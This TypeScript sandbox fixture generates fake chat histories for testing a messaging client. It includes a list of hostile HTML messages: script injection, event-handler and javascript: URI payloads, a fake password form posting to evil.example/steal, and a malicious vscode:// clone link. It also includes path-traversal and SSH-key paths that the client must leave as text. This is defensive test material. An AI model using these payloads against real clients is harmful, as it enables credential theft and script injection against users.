// The sandbox's messages. Every chat has a history generated on demand from its ID (a chat of
// 10,000 messages costs nothing until someone pages through it), plus what happened since:
// messages that arrived or were sent, edits, deletions and reactions, kept per chat and bounded.
// Shapes follow the official spec's Message exactly.
import * as zlib from 'node:zlib';
import type { Attachment, Message, Reaction } from '../../src/api/types';
import { rng, type SandboxChat } from './data';

/** The special chats of the first WhatsApp account, by their chat ID's index. */
export const SHOWCASE = {
  /** A group with formatted messages, replies, reactions, edits, deletions, images and files. */
  rich: 0,
  /** Hostile HTML from the other side, and a 20,000-character message. */
  hostile: 3,
  /** 10,000 messages (the benchmark scrolls through them). */
  history: 4,
  /** Code review: paths, a stack trace and a permalink into the demo workspace, and paths that must stay text. */
  code: 9,
  /** An announcements channel: read-only. */
  readOnly: 11,
} as const;

export const SHOWCASE_ACCOUNT = 'local-whatsapp_ba_sandbox1';

export function showcaseChatID(which: keyof typeof SHOWCASE): string {
  return `!chat${SHOWCASE[which]}_${SHOWCASE_ACCOUNT}:local-whatsapp.localhost`;
}

/** Messages the server returns per page (the client cannot choose). */
export const MESSAGE_PAGE = 25;
/** Messages kept per chat beyond its generated history (a soak test sends thousands). */
const ADDED_PER_CHAT = 2000;

export const HOSTILE_MESSAGES: string[] = [
  '<script>window.__pwned = 1; document.body.innerHTML = "pwned"</script>Hello <b>there</b>',
  '<img src="x" onerror="window.__pwned = 2">Look at this picture',
  '<a href="javascript:window.__pwned=3">click me for a prize</a> and <a href="data:text/html,<script>alert(1)</script>">this</a>',
  '<iframe src="https://evil.example/"></iframe>Embedded page',
  '<style>body { display: none !important; }</style>Styled text that tries to hide the page',
  '<form action="https://evil.example/steal"><input name="password" placeholder="Your Beeper password"><button>Log in</button></form>',
  '<mx-reply><blockquote>Forged quote of a message nobody sent</blockquote></mx-reply>The real reply text',
  '<div style="position:fixed;inset:0;background:red" onclick="window.__pwned=4" onmouseover="window.__pwned=5">Hover me</div>',
  '<svg><script>window.__pwned=6</script></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>Math and SVG',
  '<a href="https://example.org/safe" title="A safe link">a safe link</a> next to <b onmouseover="window.__pwned=7">bold with a handler</b>',
  '<p>Trusted-looking <a href="http://[::1]:23373/v1/accounts">API link</a> and <a href="mailto:grace@example.org">mail</a></p>',
  '<a href="vscode://vscode.git/clone?url=https://evil.example/repo">Open in VS Code</a> and <a href="command:workbench.action.terminal.new">a command</a>',
  '<object data="x"></object><embed src="x"><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">Meta refresh',
];

/**
 * The newest messages of the code chat, about the demo workspace (test/host/demoWorkspace.ts):
 * what becomes an editor link, and what must stay text.
 */
export const CODE_MESSAGES: string[] = [
  'CI went red after the merge:\nTypeError: Cannot read properties of undefined (reading \'path\')\n    at handle (src/server/routes.ts:14:23)\n    at dispatch (src/server/app.ts:8:3)',
  'The lookup is in src/server/routes.ts:12 and it assumes a route exists. Permalink: https://github.com/beeper-sandbox/demo/blob/main/src/server/routes.ts#L12-L15',
  'These stay text: ../../etc/passwd.txt:1, ~/.ssh/id_rsa.pub:1, src/escape.ts:1 (a symlink out of the repo) and src/missing.ts:3 (no such file)',
];

const FORMATTED: string[] = [
  'Did you see the <b>release notes</b>? The <i>new</i> build is <u>much</u> faster and <s>slower</s> <del>broken</del> fixed.',
  '<p>Steps:</p><ol><li>Pull <code>main</code></li><li>Run <code>npm test</code></li><li>Ship it</li></ol>',
  '<pre><code class="language-typescript">export function greet(name: string): string {\n  return `Hello, ${name}!`;\n}\n</code></pre>',
  '<blockquote>Premature optimization is the root of all evil.</blockquote>— Knuth, apparently',
  'Shopping list: <ul><li>milk</li><li><strong>coffee</strong></li><li><em>more</em> coffee</li></ul>',
  'Docs are at <a href="https://developers.beeper.com/desktop-api">developers.beeper.com</a>, ping me at <a href="mailto:ada@example.org">ada@example.org</a>',
];

const PLAIN: string[] = [
  'Morning! ☀️',
  'Are we still on for Saturday?',
  'I pushed the fix, can you take a look?',
  'Sounds good 👍',
  'On my way',
  'Haha, yes 😂',
  'Can you send me the slides from yesterday?',
  'Running 10 minutes late, sorry!',
  'Let me check and get back to you.',
  'That makes sense. Let’s do it.',
  'Happy birthday!! 🎉🎂',
  'Did anyone book the table?',
  'Lunch?',
  'Who has the key to the shed?',
  'I think the tests are flaky again',
  'Thanks a lot 🙏',
];

const EMOJI = ['👍', '❤️', '😂', '🎉', '😮', '🙏'];

/** A 1×1-ish PNG per colour: real bytes with a real content type. */
const PNG_COLOURS = ['4f5bd5', 'e0a33b', '3bb58f', 'd5484f'];

export interface Overlay {
  /** Edits, deletions and reactions of generated messages, by ID. */
  patches: Map<string, Partial<Message>>;
  /** Messages after the generated history, oldest first. */
  added: Message[];
  /** The chat's history as generated: how many messages and when the newest was sent. */
  count: number;
  endTs: number;
  /** Generated messages before this index were read (POST …/read). */
  readThrough?: number;
}

function hash(s: string): number {
  let h = 17;
  for (const c of s) h = (h * 31 + c.charCodeAt(0)) >>> 0;
  return h;
}

export function historyCount(chat: SandboxChat): number {
  if (chat.historyCount !== undefined) return chat.historyCount;
  if (chat.accountID === SHOWCASE_ACCOUNT && chat.id === showcaseChatID('history')) return 10_000;
  if (chat.accountID === SHOWCASE_ACCOUNT && chat.id === showcaseChatID('hostile')) return HOSTILE_MESSAGES.length + 6;
  if (chat.accountID === SHOWCASE_ACCOUNT && chat.id === showcaseChatID('code')) return 30;
  return 30 + (hash(chat.id) % 30);
}

export interface Cast {
  self: { id: string; name: string };
  others: { id: string; name: string }[];
}

/** Message k (0 = oldest) of a chat's generated history: the same every time. */
export function generatedMessage(chat: SandboxChat, overlay: Overlay, cast: Cast, k: number): Message {
  const random = rng(hash(chat.id) + k * 7919);
  const n = overlay.count;
  const step = n > 1000 ? 7 * 60_000 : 37 * 60_000;
  const ts = overlay.endTs - (n - 1 - k) * step - Math.floor(random() * 60_000) * (k === n - 1 ? 0 : 1);
  const mine = random() < 0.3;
  const other = cast.others[Math.floor(random() * cast.others.length)] ?? { id: '@someone:sandbox.localhost', name: 'Someone' };
  const sender = mine ? cast.self : other;
  const id = messageIdOf(chat, k);
  const message: Message = {
    id,
    chatID: chat.id,
    accountID: chat.accountID,
    senderID: sender.id,
    senderName: sender.name,
    timestamp: new Date(ts).toISOString(),
    sortKey: String(ts * 1000 + (k % 1000)),
    type: 'TEXT',
    text: PLAIN[Math.floor(random() * PLAIN.length)],
    isSender: mine,
    isUnread: !mine && k >= n - chat.unreadCount,
    mentions: [],
  };
  const hostile = chat.accountID === SHOWCASE_ACCOUNT && chat.id === showcaseChatID('hostile');
  if (hostile) {
    if (k < HOSTILE_MESSAGES.length) Object.assign(message, { text: HOSTILE_MESSAGES[k], isSender: false, senderID: other.id, senderName: other.name });
    else if (k === HOSTILE_MESSAGES.length) Object.assign(message, { text: longMessage(), isSender: false, senderID: other.id, senderName: other.name });
    else if (k === HOSTILE_MESSAGES.length + 1) Object.assign(message, { text: FORMATTED[1], isSender: false, senderID: other.id, senderName: other.name });
  } else if (k % 11 === 3) message.text = FORMATTED[k % FORMATTED.length];
  // The code chat's newest messages are about the demo workspace, from the other side.
  const code = chat.accountID === SHOWCASE_ACCOUNT && chat.id === showcaseChatID('code') ? k - (n - CODE_MESSAGES.length) : -1;
  if (code >= 0) Object.assign(message, { text: CODE_MESSAGES[code], isSender: false, senderID: other.id, senderName: other.name });
  if (!hostile && code < 0 && k > 2) {
    const roll = random();
    if (roll < 0.08) message.linkedMessageID = messageIdOf(chat, k - 1 - Math.floor(random() * 3));
    else if (roll < 0.12) message.editedTimestamp = new Date(ts + 60_000).toISOString();
    else if (roll < 0.14 && k < n - 1) Object.assign(message, { isDeleted: true, text: undefined });
    else if (roll < 0.16) message.isHidden = true;
    else if (roll < 0.22) Object.assign(message, imageOf(k));
    else if (roll < 0.25) Object.assign(message, fileOf(k));
    else if (roll < 0.27) {
      message.text = 'Worth a read: https://example.org/article';
      message.links = [{ url: 'https://example.org/article', title: 'An article worth reading', summary: 'A summary of the article, as the link preview shows it.', img: 'https://example.org/preview.png' }];
    }
    if (random() < 0.15 && !message.isDeleted) message.reactions = reactionsOf(random, cast);
  }
  const patch = overlay.patches.get(id);
  return patch ? { ...message, ...patch } : message;
}

export function messageIdOf(chat: SandboxChat, k: number): string {
  return String(Number(chat.localChatID ?? '1') * 100_000 + k);
}

/** The generated index of a message ID of this chat, or -1. */
export function indexOfId(chat: SandboxChat, overlay: Overlay, id: string): number {
  if (!/^\d+$/.test(id)) return -1;
  const k = Number(id) - Number(chat.localChatID ?? '1') * 100_000;
  return Number.isInteger(k) && k >= 0 && k < overlay.count ? k : -1;
}

function longMessage(): string {
  const words = 'lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore'.split(' ');
  let out = 'A very long message: ';
  for (let i = 0; out.length < 20_000; i++) out += words[i % words.length] + (i % 40 === 39 ? '.\n' : ' ');
  return out.slice(0, 20_000);
}

function imageOf(k: number): Partial<Message> {
  const colour = PNG_COLOURS[k % PNG_COLOURS.length]!;
  const attachment: Attachment = {
    id: `mxc://sandbox.localhost/img_${colour}`,
    type: 'img',
    srcURL: `mxc://sandbox.localhost/img_${colour}`,
    mimeType: 'image/png',
    fileName: `photo-${k}.png`,
    fileSize: pngOf(colour).length,
    size: { width: 320, height: 200 },
  };
  return { type: 'IMAGE', text: k % 2 ? 'Look at this' : undefined, attachments: [attachment] };
}

function fileOf(k: number): Partial<Message> {
  const attachment: Attachment = {
    id: `mxc://sandbox.localhost/file_${k % 3}`,
    type: 'unknown',
    srcURL: `mxc://sandbox.localhost/file_${k % 3}`,
    mimeType: 'application/pdf',
    fileName: ['Quarterly report.pdf', 'Itinerary.pdf', 'minutes-2026-11.pdf'][k % 3],
    fileSize: fileBytes(k % 3).length,
  };
  return { type: 'FILE', text: undefined, attachments: [attachment] };
}

function reactionsOf(random: () => number, cast: Cast): Reaction[] {
  const people = [cast.self, ...cast.others].slice(0, 4);
  const out: Reaction[] = [];
  for (const p of people) {
    if (random() < 0.5) continue;
    const key = EMOJI[Math.floor(random() * EMOJI.length)]!;
    out.push({ id: `${p.id}${key}`, reactionKey: key, participantID: p.id, emoji: true });
  }
  if (!out.length) out.push({ id: `${people[0]!.id}👍`, reactionKey: '👍', participantID: people[people.length - 1]!.id, emoji: true });
  return out;
}

// ---- assets -----------------------------------------------------------------------------------

const pngCache = new Map<string, Buffer>();

/** A small solid-colour PNG (320×200), built once per colour. */
export function pngOf(colour: string): Buffer {
  const cached = pngCache.get(colour);
  if (cached) return cached;
  const w = 320;
  const h = 200;
  const [r, g, b] = [0, 2, 4].map((i) => parseInt(colour.slice(i, i + 2), 16));
  const row = Buffer.alloc(1 + w * 3);
  for (let x = 0; x < w; x++) row.set([r!, g!, b!], 1 + x * 3);
  const raw = Buffer.concat(Array.from({ length: h }, () => row));
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(td));
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const png = Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk('IHDR', ihdr), chunk('IDAT', zlib.deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
  pngCache.set(colour, png);
  return png;
}

function crc32(buf: Buffer): number {
  let c = ~0;
  for (const byte of buf) {
    c ^= byte;
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
  }
  return ~c >>> 0;
}

export function fileBytes(n: number): Buffer {
  return Buffer.from(`%PDF-1.4\n% sandbox file ${n}\n${'x'.repeat(20_000 + n * 5_000)}\n%%EOF\n`);
}

/** What /v1/assets/serve answers for a URL the sandbox knows: bytes and a content type. */
export function assetOf(url: string, uploads: Map<string, { bytes: Buffer; mimeType: string; fileName: string }>): { bytes: Buffer; type: string } | undefined {
  const img = /^mxc:\/\/sandbox\.localhost\/img_([0-9a-f]{6})$/.exec(url);
  if (img) return { bytes: pngOf(img[1]!), type: 'image/png' };
  const file = /^mxc:\/\/sandbox\.localhost\/file_(\d)$/.exec(url);
  if (file) return { bytes: fileBytes(Number(file[1])), type: 'application/pdf' };
  const upload = /^mxc:\/\/sandbox\.localhost\/upload_([\w-]+)$/.exec(url);
  if (upload) {
    const u = uploads.get(upload[1]!);
    if (u) return { bytes: u.bytes, type: u.mimeType };
  }
  return undefined;
}

export function trimAdded(overlay: Overlay): void {
  if (overlay.added.length > ADDED_PER_CHAT) overlay.added.splice(0, overlay.added.length - ADDED_PER_CHAT);
}
